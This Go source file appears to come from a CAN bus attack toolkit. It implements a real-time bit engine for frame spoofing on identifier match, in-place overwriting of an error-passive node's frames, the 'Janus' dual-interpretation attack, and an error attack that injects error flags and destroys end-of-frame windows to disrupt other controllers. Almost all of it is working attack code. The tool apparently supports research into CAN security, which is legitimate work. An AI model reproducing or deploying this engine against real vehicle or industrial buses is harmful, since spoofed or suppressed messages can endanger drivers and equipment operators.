// Package engine implements the real-time half-duplex bit engine: the
// hard, busy-loop core that synchronises to bus edges, drives and samples
// TX/RX at computed bit boundaries, detects arbitration loss and carries
// out the plain-transmit and Janus dual-interpretation primitives.
//
// Every exported method here is a "hard real-time busy loop" per spec.md
// ss5: no goroutines, no channels, no sleeps. Callers are expected to run
// with interrupts masked (or the moral equivalent) and to not share a
// *Engine across goroutines while a primitive is in flight.
package engine

import (
	"github.com/dene67/canhack/internal/can"
	"github.com/dene67/canhack/internal/platform"
)

// sofMatchMask/sofMatch implement the "ten recessive bits, dominant or
// recessive eleventh" SOF detection rule from spec.md ss4.3: only the ten
// bits preceding the newest sample are constrained.
const (
	sofMatchMask = 0x7FE
	sofMatch     = 0x7FE
)

// Engine drives one Platform Port through the bit-level CAN protocol. It
// holds no frame state of its own — callers (attack.Controller) own the
// Frame slots and AttackParams; Engine only ever sees them as arguments.
type Engine struct {
	port    platform.Port
	timeout uint32
}

// New returns an Engine bound to port. The watchdog starts at 0 (every
// primitive aborts instantly) until SetTimeout is called.
func New(port platform.Port) *Engine {
	return &Engine{port: port}
}

// SetTimeout arms the watchdog counter consumed by every subsequent
// primitive's outer loop.
func (e *Engine) SetTimeout(t uint32) { e.timeout = t }

// Stop requests cooperative cancellation: the next outer-loop iteration of
// whatever primitive is running observes timeout==0 and aborts.
func (e *Engine) Stop() { e.timeout = 0 }

// tick implements the compare-then-decrement watchdog semantics from
// spec.md ss9: the zero check happens before the decrement, so a timeout
// of exactly 0 aborts immediately without underflowing.
func (e *Engine) tick() bool {
	if e.timeout == 0 {
		return false
	}
	e.timeout--
	return true
}

// waitPlainSOF implements the common SOF-detection prelude for plain
// transmit (spec.md ss4.3): it samples RX every iteration, resyncs the
// clock on a recessive-to-dominant edge, and shifts samples into a rolling
// register until the low 11 bits show ten recessive bits before the
// newest sample. The returned tx_index is rx XOR 1: 0 when the newest
// sample was recessive, so the caller drives its own SOF bit, and 1 when
// it was dominant (a SOF is already on the bus), so bit 0 of the frame is
// skipped.
func (e *Engine) waitPlainSOF() (txIndex int, err error) {
	port := e.port
	t := port.Timing()
	prevRX := port.GetRX()
	samplePoint := port.Now() + t.SamplePoint
	var reg uint64
	for {
		if !e.tick() {
			port.SetTXRecessive()
			return 0, ErrTimeout
		}
		rx := port.GetRX()
		now := port.Now()
		if prevRX == can.Recessive && rx == can.Dominant {
			port.ResetClock(0)
			samplePoint = t.SamplePoint
			now = 0
		}
		prevRX = rx
		if platform.Reached(now, samplePoint) {
			reg = reg<<1 | uint64(rx)
			samplePoint += t.BitTime
			if reg&sofMatchMask == sofMatch {
				return rx ^ 1, nil
			}
		}
	}
}

// waitForMatch blocks until the rolling sampled register matches
// (mask, match) — the targeted-attack trigger from spec.md ss4.3, shared
// by spoof_frame, spoof_frame_error_passive and error_attack.
func (e *Engine) waitForMatch(mask, match uint64) error {
	port := e.port
	t := port.Timing()
	prevRX := port.GetRX()
	samplePoint := port.Now() + t.SamplePoint
	var reg uint64
	for {
		if !e.tick() {
			port.SetTXRecessive()
			return ErrNoMatch
		}
		rx := port.GetRX()
		now := port.Now()
		if prevRX == can.Recessive && rx == can.Dominant {
			port.ResetClock(0)
			samplePoint = t.SamplePoint
			now = 0
		}
		prevRX = rx
		if platform.Reached(now, samplePoint) {
			reg = reg<<1 | uint64(rx)
			samplePoint += t.BitTime
			if reg&mask == match {
				return nil
			}
		}
	}
}

// sendBits drives f onto TX starting from txIndex through last_eof_bit+3,
// sampling at each bit's sample point and bailing out to "reenter
// arbitration" the moment a sampled level disagrees with what we drove.
// This is the transmit inner loop from spec.md ss4.3.
func (e *Engine) sendBits(f *can.Frame, txIndex int) (bool, error) {
	port := e.port
	t := port.Timing()
	curBitTime := t.BitTime
	curSampleToBitEnd := t.SampleToBitEnd

	port.ResetClock(0)
	tx := f.TxBitstream[txIndex]
	txIndex++
	// bitEnd starts "already due" so the first outer-loop iteration drives
	// TxBitstream[txIndex] immediately; samplePoint is a harmless placeholder overwritten
	// by that same first crossing before it could ever be reached.
	bitEnd := uint32(0)
	samplePoint := uint32(0)
	var curTX uint8
	sampled := false

	for {
		if !e.tick() {
			port.SetTXRecessive()
			return false, ErrTimeout
		}
		now := port.Now()

		if platform.Reached(now, bitEnd) {
			port.SetTX(int(tx))
			curTX = tx
			bitEnd += curBitTime

			if f.FD && f.BRSBit != can.NoBit && txIndex == f.BRSBit+1 && curTX == can.Recessive {
				curBitTime = t.BitTimeFD
				curSampleToBitEnd = t.SampleToBitEndFD
			}
			if f.FD && txIndex == f.LastCRCBit+2 {
				curBitTime = t.BitTime
				curSampleToBitEnd = t.SampleToBitEnd
			}
			samplePoint = bitEnd - curSampleToBitEnd
			sampled = false

			if txIndex >= f.LastEOFBit+3 {
				port.SetTXRecessive()
				return true, nil
			}
			tx = f.TxBitstream[txIndex]
			txIndex++
		}

		if !sampled && platform.Reached(now, samplePoint) {
			sampled = true
			rx := port.GetRX()
			if rx != int(curTX) {
				port.SetTXRecessive()
				return false, ErrArbitrationLost
			}
		}
	}
}

// SendFrame implements send_frame(retries): waits for SOF, then drives f,
// retrying the SOF wait up to retries+1 times on arbitration loss. A
// timeout or bit error consumes a retry only once SOF has been asserted.
func (e *Engine) SendFrame(f *can.Frame, retries int) (bool, error) {
	for attempt := 0; ; attempt++ {
		txIndex, err := e.waitPlainSOF()
		if err != nil {
			return false, err
		}
		sent, err := e.sendBits(f, txIndex)
		if sent {
			return true, nil
		}
		if attempt >= retries {
			return false, err
		}
		// Arbitration lost or bit error with retries remaining: loop back
		// to the SOF wait so we re-observe the next IFS window.
	}
}

// JanusTiming carries the Janus attack's three sub-phase durations for
// both bit-rate phases (spec.md ss4.3): sync_time/split_time apply at
// arbitration bit-time, *_FD apply once BRS has switched to the faster
// data-phase bit-time.
type JanusTiming struct {
	SyncTime, SplitTime     uint32
	SyncTimeFD, SplitTimeFD uint32
}

// sendJanusBits drives the three-phase Janus bit pattern: a forced
// dominant edge, then frame1's bit, then frame2's bit, sampling mid-bit to
// detect arbitration loss against frame1 (spec.md ss4.3).
func (e *Engine) sendJanusBits(f1, f2 *can.Frame, txIndex int, jt JanusTiming) (bool, error) {
	port := e.port
	t := port.Timing()
	curBitTime := t.BitTime
	curSync, curSplit := jt.SyncTime, jt.SplitTime

	maxBits := f1.TxBits
	if f2.TxBits > maxBits {
		maxBits = f2.TxBits
	}

	port.ResetClock(0)
	bitEnd := uint32(0)
	syncEnd := bitEnd + curSync
	splitEnd := bitEnd + curSplit
	var tx1, tx2 uint8
	const (
		phaseBitEnd = iota
		phaseSyncEnd
		phaseSplitEnd
	)
	phase := phaseBitEnd

	for {
		if !e.tick() {
			port.SetTXRecessive()
			return false, ErrTimeout
		}
		now := port.Now()

		switch phase {
		case phaseBitEnd:
			if platform.Reached(now, bitEnd) {
				port.SetTXDominant()
				if txIndex < len(f1.TxBitstream) {
					tx1 = f1.TxBitstream[txIndex]
				} else {
					tx1 = can.Recessive
				}
				periodStart := bitEnd
				bitEnd += curBitTime
				syncEnd = periodStart + curSync
				splitEnd = periodStart + curSplit
				phase = phaseSyncEnd
			}
		case phaseSyncEnd:
			if platform.Reached(now, syncEnd) {
				port.SetTX(int(tx1))
				if txIndex < len(f2.TxBitstream) {
					tx2 = f2.TxBitstream[txIndex]
				} else {
					tx2 = can.Recessive
				}
				txIndex++
				if txIndex >= maxBits {
					port.SetTXRecessive()
					return true, nil
				}
				if f1.FD && f1.BRSBit != can.NoBit && txIndex == f1.BRSBit+1 && tx1 == can.Recessive {
					curBitTime = t.BitTimeFD
					curSync, curSplit = jt.SyncTimeFD, jt.SplitTimeFD
				}
				if f1.FD && txIndex == f1.LastCRCBit+2 {
					curBitTime = t.BitTime
					curSync, curSplit = jt.SyncTime, jt.SplitTime
				}
				phase = phaseSplitEnd
			}
		case phaseSplitEnd:
			if platform.Reached(now, splitEnd) {
				rx := port.GetRX()
				port.SetTX(int(tx2))
				if rx != int(tx1) {
					port.SetTXRecessive()
					return false, ErrArbitrationLost
				}
				phase = phaseBitEnd
			}
		}
	}
}

// SendJanusFrame implements send_janus_frame: the SOF-wait preamble
// followed by the three-phase Janus inner loop, with the same retry
// policy as SendFrame.
func (e *Engine) SendJanusFrame(f1, f2 *can.Frame, jt JanusTiming, retries int) (bool, error) {
	for attempt := 0; ; attempt++ {
		txIndex, err := e.waitPlainSOF()
		if err != nil {
			return false, err
		}
		sent, err := e.sendJanusBits(f1, f2, txIndex, jt)
		if sent {
			return true, nil
		}
		if attempt >= retries {
			return false, err
		}
	}
}

// SpoofFrame implements spoof_frame: wait for the bitstream match, then
// immediately begin a plain (or Janus, if f2 != nil) transmit — which
// itself waits out the rest of the targeted frame's IFS before driving.
func (e *Engine) SpoofFrame(mask, match uint64, f1, f2 *can.Frame, jt JanusTiming, retries int) (bool, error) {
	if err := e.waitForMatch(mask, match); err != nil {
		return false, err
	}
	if f2 != nil {
		return e.SendJanusFrame(f1, f2, jt, retries)
	}
	return e.SendFrame(f1, retries)
}

// SpoofFrameErrorPassive implements spoof_frame_error_passive: on
// identifier match, drive straight into the post-identifier region of the
// targeted frame (starting at nFrameMatchBits) without waiting for IFS,
// overwriting it in place. The clock is first set back by loopbackOffset,
// but sendBits restarts it at 0 before driving, so loopbackOffset does not
// change when any bit is driven or sampled.
func (e *Engine) SpoofFrameErrorPassive(mask, match uint64, f *can.Frame, nFrameMatchBits int, loopbackOffset uint32) (bool, error) {
	if err := e.waitForMatch(mask, match); err != nil {
		return false, err
	}
	port := e.port
	t := port.Timing()
	now := port.Now()
	var adjusted uint32
	if now > loopbackOffset {
		adjusted = now - loopbackOffset
	}
	port.ResetClock(adjusted)
	_ = t
	return e.sendBits(f, nFrameMatchBits)
}

// sampleUntil32 samples bits into a 32-bit rolling register, one per bit
// time, until it matches (mask, match) — used by ErrorAttack to find the
// EOF/IFS/delimiter window to destroy.
func (e *Engine) sampleUntil32(mask, match uint32) error {
	port := e.port
	t := port.Timing()
	samplePoint := port.Now() + t.SamplePoint
	var reg uint32
	for {
		if !e.tick() {
			port.SetTXRecessive()
			return ErrTimeout
		}
		now := port.Now()
		if platform.Reached(now, samplePoint) {
			rx := port.GetRX()
			reg = reg<<1 | uint32(rx)
			samplePoint += t.BitTime
			if reg&mask == match {
				return nil
			}
		}
	}
}

// driveDominantFor holds TX dominant for exactly n bit times, then
// releases to recessive — the active-error-flag / delimiter-destruction
// burst shared by ErrorAttack's two phases.
func (e *Engine) driveDominantFor(n uint32) error {
	port := e.port
	t := port.Timing()
	end := port.Now() + n*t.BitTime
	port.SetTXDominant()
	for {
		if !e.tick() {
			port.SetTXRecessive()
			return ErrTimeout
		}
		if platform.Reached(port.Now(), end) {
			port.SetTXRecessive()
			return nil
		}
	}
}

// ErrorAttack implements error_attack: after an identifier match, it
// optionally injects a 6-bit-time active error flag, then for `repeat`
// iterations waits for the caller-supplied EOF/IFS window and destroys it
// with a 7-bit-time dominant burst (spec.md ss4.3).
func (e *Engine) ErrorAttack(mask, match uint64, injectError bool, repeat int, eofMask, eofMatch uint32) (bool, error) {
	if err := e.waitForMatch(mask, match); err != nil {
		return false, err
	}
	if injectError {
		if err := e.driveDominantFor(6); err != nil {
			return false, err
		}
	}
	for i := 0; i < repeat; i++ {
		if err := e.sampleUntil32(eofMask, eofMatch); err != nil {
			return false, err
		}
		if err := e.driveDominantFor(7); err != nil {
			return false, err
		}
	}
	return true, nil
}

// SendSquareWave toggles TX at BitTime for the given number of bit
// periods — the controller's calibration primitive.
func (e *Engine) SendSquareWave(periods int) (bool, error) {
	port := e.port
	t := port.Timing()
	tx := can.Dominant
	port.ResetClock(0)
	bitEnd := t.BitTime
	for i := 0; i < periods; i++ {
		port.SetTX(tx)
		for {
			if !e.tick() {
				port.SetTXRecessive()
				return false, ErrTimeout
			}
			if platform.Reached(port.Now(), bitEnd) {
				break
			}
		}
		bitEnd += t.BitTime
		tx ^= 1
	}
	port.SetTXRecessive()
	return true, nil
}

// Loopback mirrors RX onto TX for the given number of bit periods, for
// debug-pin observation of the live bus.
func (e *Engine) Loopback(periods int) (bool, error) {
	port := e.port
	t := port.Timing()
	port.ResetClock(0)
	bitEnd := t.BitTime
	for i := 0; i < periods; i++ {
		port.SetTX(port.GetRX())
		for {
			if !e.tick() {
				port.SetTXRecessive()
				return false, ErrTimeout
			}
			if platform.Reached(port.Now(), bitEnd) {
				break
			}
		}
		bitEnd += t.BitTime
	}
	port.SetTXRecessive()
	return true, nil
}
